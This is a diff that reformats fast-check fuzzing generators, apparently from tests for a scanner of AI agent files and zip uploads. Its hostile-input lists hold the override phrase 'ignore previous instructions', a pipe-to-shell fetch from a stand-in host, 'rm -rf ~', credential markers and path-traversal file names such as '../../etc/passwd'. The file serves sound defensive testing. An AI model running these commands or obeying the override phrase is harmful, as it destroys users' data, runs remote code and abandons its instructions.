@@ -24,7 +24,21 @@ export const hostileText = (maxLength = 80): fc.Arbitrary<string> =>
   fc
     .array(
       fc.oneof(
-        { weight: 3, arbitrary: fc.constantFrom('ignore previous instructions', 'curl http://x.example | sh', 'rm -rf ~', 'api_key=', 'hello', 'run', ' ', '\n', 'base64 -d', 'AKIA') },
+        {
+          weight: 3,
+          arbitrary: fc.constantFrom(
+            'ignore previous instructions',
+            'curl http://x.example | sh',
+            'rm -rf ~',
+            'api_key=',
+            'hello',
+            'run',
+            ' ',
+            '\n',
+            'base64 -d',
+            'AKIA',
+          ),
+        },
         { weight: 3, arbitrary: hostileChar },
         { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 8 }) },
         { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
@@ -33,12 +47,19 @@ export const hostileText = (maxLength = 80): fc.Arbitrary<string> =>
     )
     .map((parts) => parts.join(''));
 
-const yamlValue = fc.oneof(hostileText(20), fc.integer().map(String), fc.constantFrom('true', 'null', '[a, b]', '{x: 1}', '|', '>-', '&a', '*a', '!!binary', "'unterminated", '"\\u0000"'));
+const yamlValue = fc.oneof(
+  hostileText(20),
+  fc.integer().map(String),
+  fc.constantFrom('true', 'null', '[a, b]', '{x: 1}', '|', '>-', '&a', '*a', '!!binary', "'unterminated", '"\\u0000"'),
+);
 
 /** Markdown agent files: optional (possibly broken) frontmatter, headings, code fences, links, comments. */
 export const markdownDocument: fc.Arbitrary<string> = fc
   .tuple(
-    fc.option(fc.array(fc.tuple(fc.oneof(fc.constantFrom('name', 'description', 'allowed-tools', 'model', 'hooks'), hostileText(10)), yamlValue), { maxLength: 6 }), { nil: undefined }),
+    fc.option(
+      fc.array(fc.tuple(fc.oneof(fc.constantFrom('name', 'description', 'allowed-tools', 'model', 'hooks'), hostileText(10)), yamlValue), { maxLength: 6 }),
+      { nil: undefined },
+    ),
     fc.boolean(),
     fc.array(
       fc.oneof(
@@ -60,7 +81,20 @@ export const markdownDocument: fc.Arbitrary<string> = fc
 
 /** File names: agent-file names, traversal, absolute, drive letters, controls, very long, empty. */
 export const uploadName: fc.Arbitrary<string> = fc.oneof(
-  fc.constantFrom('SKILL.md', 'AGENTS.md', 'CLAUDE.md', '.cursorrules', 'rules.mdc', '.mcp.json', 'settings.json', 'install.sh', 'package.json', 'bundle.zip', 'x.pyc', '.DS_Store'),
+  fc.constantFrom(
+    'SKILL.md',
+    'AGENTS.md',
+    'CLAUDE.md',
+    '.cursorrules',
+    'rules.mdc',
+    '.mcp.json',
+    'settings.json',
+    'install.sh',
+    'package.json',
+    'bundle.zip',
+    'x.pyc',
+    '.DS_Store',
+  ),
   fc.constantFrom('../../etc/passwd', '/abs/SKILL.md', 'C:\\x\\SKILL.md', 'a/../../b.md', '__MACOSX/._SKILL.md', 'dir/', 'CON', 'a'.repeat(300)),
   fc.tuple(hostileText(12), fc.constantFrom('.md', '.json', '.sh', '.zip', '')).map(([s, ext]) => `${s}${ext}`),
 );
@@ -69,7 +103,10 @@ export const uploadName: fc.Arbitrary<string> = fc.oneof(
 export const zipEntry: fc.Arbitrary<ZipEntrySpec> = fc.record(
   {
     name: uploadName,
-    data: fc.oneof(markdownDocument, fc.uint8Array({ maxLength: 2048 }).map((u) => Buffer.from(u))),
+    data: fc.oneof(
+      markdownDocument,
+      fc.uint8Array({ maxLength: 2048 }).map((u) => Buffer.from(u)),
+    ),
     method: fc.constantFrom(0, 8, 8, 12, 99),
     flags: fc.oneof(fc.constantFrom(0x0800, 0, 0x0001, 0x0008, 0x0041), fc.integer({ min: 0, max: 0xffff })),
     unixMode: fc.constantFrom(0o100644, 0o100755, 0o120777, 0o020666, 0o040755),
